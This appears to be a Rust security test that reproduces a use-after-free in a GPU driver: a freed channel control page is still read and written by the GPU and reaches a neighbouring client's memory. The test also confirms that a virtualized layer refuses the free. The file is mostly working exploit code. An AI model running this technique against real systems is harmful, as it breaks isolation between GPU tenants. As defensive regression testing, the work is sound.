// SPDX-License-Identifier: GPL-2.0
//! A channel's control page in memory that was freed: the GPU goes on reading and writing there.
//!
//! A program has a channel whose control page is in its memory, and the GPU takes entries of the
//! channel's ring. Then it frees the memory and keeps the channel. A neighbour takes memory and
//! writes numbers where a control page has them. The GPU looks at the channel again: on the
//! driver's own nodes it takes the neighbour's number for how far it may go, and writes there how
//! far it is.

use super::{
    attack::Own,
    rest::alone,
    scene::{in_instances, Place, GPU, MIB, OWN},
    stale::{client_on, give_up, mapped, Piece},
};
use crate::{
    bytes::{put_u32, put_u64},
    facts,
    guest::{
        rm,
        suite::mappings::{read, write},
        tools::{at, control},
        uvm,
    },
    sys,
};
use cgpu_uapi::capability;

pub(super) const ATTACKS: &[Own] = &[Own {
    name: "a channel's control page in freed memory",
    function: "kernel_channel_gv100.c:kchannelCreateUserdMemDesc_GV100",
    run: reach_freed,
}];

/// The program's objects: memory for the control page and the ring, addresses for the GPU.
const MEMORY: u32 = OWN;
const RING: u32 = OWN + 1;
const SPACE: u32 = OWN + 2;
const RANGE: u32 = OWN + 3;
const GROUP: u32 = OWN + 4;
const CHANNEL: u32 = OWN + 5;
const PIECE: u64 = 2 * MIB;
/// Pieces that a neighbour takes. It gets those that were freed last.
const PIECES: u32 = 16;
/// Entries of the ring. They are zeros, with which the GPU does nothing.
const ENTRIES: u32 = 8;
/// How far the program has the GPU go, and how far the neighbour's number lets it go.
const FIRST: u32 = 3;
const SECOND: u32 = 5;
const LAST: u32 = 6;
/// The neighbour's number where the GPU says how far it is.
const SECRET: u32 = 0x5ec2_e700;
/// Offsets in a control page (class c86f, `Nvc86fControl`).
const GP_GET: u64 = 0x88;
const GP_PUT: u64 = 0x8c;
/// Milliseconds that the GPU may need until it looks at a channel.
const PATIENCE_MS: u64 = 10_000;
/// And those after which it has looked, if it does.
const ENOUGH_MS: u64 = 2_000;

/// The driver's answer to a free that cannot be: `NV_ERR_IN_USE`.
const IN_USE: u32 = 0x17;

/// Whether it becomes so within so many milliseconds.
fn comes(within_ms: u64, is_so: impl Fn() -> bool) -> bool {
    for _ in 0..within_ms {
        if is_so() {
            return true;
        }
        sys::sleep_ms(1);
    }
    is_so()
}

/// Puts the program's group on the runlist: the GPU looks at its channel.
fn schedule(client: &rm::Client) -> Result<(), String> {
    const SCHEDULE: u32 = 0xa06c_0101;
    let size = facts::control_size(SCHEDULE).ok_or("this branch has no such control")?;
    let mut params = vec![0; size];
    params[0] = 1;
    at("schedule", client.control(GROUP, SCHEDULE, &mut params))
}

/// Makes the channel: its ring is mapped for the GPU in an address space of the program's own.
fn make_channel(folder: &str, client: &rm::Client) -> Result<(), String> {
    at("memory", client.memory(MEMORY, PIECE))?;
    at("ring", client.memory(RING, PIECE))?;
    let ring = mapped(folder, client, (rm::DEVICE_HANDLE, RING), GPU)?;
    for entry in 0..2 * u64::from(ENTRIES) {
        write(ring.address + 4 * entry, 0);
    }
    give_up(&[ring]);
    let device = rm::DEVICE_HANDLE;
    let made = client.alloc(device, SPACE, uvm::VA_SPACE, &mut [0; 56]);
    at("address space", made)?;
    let mut params = [0; 24];
    put_u32(&mut params, 16, SPACE);
    at("range", client.alloc(device, RANGE, 0x70, &mut params))?;
    let ring = at(
        "the ring's address",
        client.map_dma((RING, RANGE), PIECE, 0),
    )?;
    let mut params = [0; 20];
    put_u32(&mut params, 8, SPACE);
    put_u32(&mut params, 12, rm::COMPUTE);
    let made = client.alloc(device, GROUP, rm::CHANNEL_GROUP, &mut params);
    at("group", made)?;
    let mut params = [0; 368];
    put_u64(&mut params, 8, ring);
    put_u32(&mut params, 16, ENTRIES);
    put_u32(&mut params, 32, MEMORY);
    let made = client.alloc(GROUP, CHANNEL, rm::CHANNEL, &mut params);
    at("channel", made).map(drop)
}

/// The GPU takes the entries of the program's ring up to this one.
fn run_entries(folder: &str, client: &rm::Client, last: u32) -> Result<(), String> {
    let page = mapped(folder, client, (rm::DEVICE_HANDLE, MEMORY), GPU)?;
    write(page.address + GP_GET, 0);
    write(page.address + GP_PUT, last);
    let run = schedule(client).and_then(|()| {
        if comes(PATIENCE_MS, || read(page.address + GP_GET) == last) {
            return Ok(());
        }
        let seen = read(page.address + GP_GET);
        Err(format!("the GPU is at entry {seen}, not {last}"))
    });
    give_up(&[page]);
    run
}

/// A neighbour's memory, with its numbers.
fn neighbour(folder: &str, client: &rm::Client) -> Result<Vec<Piece>, String> {
    let mut pieces = Vec::new();
    for number in 0..PIECES {
        let memory = OWN + number;
        at("the neighbour's memory", client.memory(memory, PIECE))?;
        let piece = mapped(folder, client, (rm::DEVICE_HANDLE, memory), GPU)?;
        write(piece.address + GP_GET, SECRET);
        write(piece.address + GP_PUT, SECOND);
        pieces.push(piece);
    }
    Ok(pieces)
}

/// The end of a try.
enum End {
    /// The GPU wrote to the neighbour's memory, or not.
    Freed(bool),
    /// The memory cannot be freed; whether the neighbour's is as it was.
    Kept(bool),
}

/// Frees the memory; whether it is free now.
fn free(client: &rm::Client) -> Result<bool, String> {
    match client.free(MEMORY) {
        Ok(()) => Ok(true),
        Err(rm::Failure::Status(IN_USE)) => Ok(false),
        Err(failure) => Err(format!("free: {failure}")),
    }
}

fn tried(place: Place) -> Result<End, String> {
    let folder = place.folder("attacker");
    let client = client_on(&folder, GPU)?;
    make_channel(&folder, &client)?;
    run_entries(&folder, &client, FIRST)?;
    let is_free = free(&client)?;
    let beside = place.folder("victim");
    let victim = client_on(&beside, GPU)?;
    let pieces = neighbour(&beside, &victim)?;
    schedule(&client)?;
    let is_reached = || {
        pieces
            .iter()
            .any(|piece| read(piece.address + GP_GET) != SECRET)
    };
    let end = if is_free {
        End::Freed(comes(PATIENCE_MS, is_reached))
    } else {
        // The channel goes on, and its memory goes after it.
        run_entries(&folder, &client, LAST)?;
        let is_reached = comes(ENOUGH_MS, is_reached);
        at("the channel's free", client.free(CHANNEL))?;
        at("the memory's free", client.free(MEMORY))?;
        End::Kept(!is_reached)
    };
    // With the channel first, while the neighbour's memory is still there.
    client.close();
    give_up(&pieces);
    victim.close();
    Ok(end)
}

/// The ring's addresses are of a class for graphics.
fn through_instance() -> Result<End, String> {
    let given = control()?.set_capabilities("attacker", GPU, capability::ALL);
    given.map_err(|errno| format!("capabilities: errno {errno}"))?;
    tried(Place::Instance)
}

fn reach_freed() -> Result<String, String> {
    match alone(|| tried(Place::Driver))? {
        End::Freed(true) => {}
        End::Freed(false) => return Err("the GPU does not reach a neighbour's memory".to_owned()),
        End::Kept(_) => return Err("the driver does not free the memory".to_owned()),
    }
    match in_instances(through_instance)? {
        End::Kept(true) => Ok(format!(
            "refused: status {IN_USE:#x}; on the driver it is reached"
        )),
        End::Kept(false) => Err("the neighbour's memory is not what it was".to_owned()),
        End::Freed(is_reached) => Err(format!(
            "the memory is freed, the neighbour's reached: {is_reached}"
        )),
    }
}
